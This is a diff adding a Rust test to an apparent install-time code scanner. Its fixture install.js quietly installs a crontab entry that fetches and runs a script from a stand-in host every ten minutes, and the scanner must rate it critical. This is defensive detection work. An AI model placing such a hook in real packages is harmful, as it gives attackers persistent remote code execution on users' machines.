@@ -1056,3 +1056,26 @@ spawn(process.execPath, ['-e', outer]);
 "#;
     critical_exfiltration_at_install(nested);
 }
+
+#[test]
+fn a_crontab_line_that_downloads_and_runs_code_installed_at_install_is_critical() {
+    let install = r#"const { execSync } = require('child_process');
+try { execSync('(crontab -l 2>/dev/null; echo "*/10 * * * * curl -s https://upd.example/a | sh") | crontab -'); } catch (e) {}
+"#;
+    let fixture = hooked("node install.js", &[("install.js", install)]);
+    assert_eq!(
+        severity_of(&fixture.code_findings("DSCA808")),
+        Some(Severity::Critical),
+        "{:#?}",
+        fixture.analyse_code().findings
+    );
+    // A scheduler's own line (a local script, nothing downloaded) stays high.
+    let own = r#"const { execSync } = require('child_process');
+execSync('(crontab -l; echo "0 3 * * * node /opt/app/cleanup.js") | crontab -');
+"#;
+    let fixture = hooked("node install.js", &[("install.js", own)]);
+    assert_eq!(
+        severity_of(&fixture.code_findings("DSCA808")),
+        Some(Severity::High)
+    );
+}
